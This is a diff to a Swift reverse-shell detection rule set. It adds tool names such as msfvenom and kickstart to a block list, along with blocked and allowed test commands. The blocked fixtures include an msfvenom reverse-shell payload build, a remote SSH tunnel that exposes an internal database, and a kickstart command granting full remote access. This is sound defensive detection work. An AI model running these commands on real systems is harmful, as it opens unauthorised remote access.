@@ -15,7 +15,7 @@ enum ReverseShell: Family {
     "websocketd", "evil-winrm", "plink", "python", "openssl",
     "tailscale", "frpc", "wstunnel", "iodine", "dnscat", "dnscat2", "ligolo-agent", "rathole", "php",
     "http-server",
-    "rclone",
+    "rclone", "kickstart", "msfvenom",
   ]
   static let rules = [shell, tunnel]
 
@@ -202,7 +202,9 @@ enum ReverseShell: Family {
       "ssh -fN -R 2222:localhost:22 eve@198.51.100.7", "autossh -M 0 -NR 8022:127.0.0.1:22 eve@198.51.100.7",
       "chisel client 198.51.100.7:8080 R:2222:localhost:22", "ngrok tcp 22", "bore local 22 --to bore.pub",
       "cloudflared tunnel --url ssh://localhost:22", "tmate -F", "sshx", "code tunnel",
-      "telnetd -p 4444 -l /bin/sh",
+      "telnetd -p 4444 -l /bin/sh", "autossh -M 0 -f -N -R 5432:db.internal:5432 u@198.51.100.61",
+      "kickstart -activate -configure -access -on -users dev -privs -all",
+      "msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.61 -f elf -o /tmp/s",
     ],
     passes: [
       "python3 -m http.server 8000", "python3 -m http.server --bind 127.0.0.1 --directory ~",
@@ -212,6 +214,8 @@ enum ReverseShell: Family {
       "ssh host uptime",
       "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
       "bore local 3000 --to bore.pub", "code .", "sshd -t", "tmate --help", "ssh -N -D 1080 bastion",
+      "ssh -R 5432:localhost:5432 staging", "msfvenom -l payloads", "kickstart -help",
+      "autossh -M 0 -f -N -L 5432:db.internal:5432 u@bastion",
     ])
 
   static let shell = Rule(
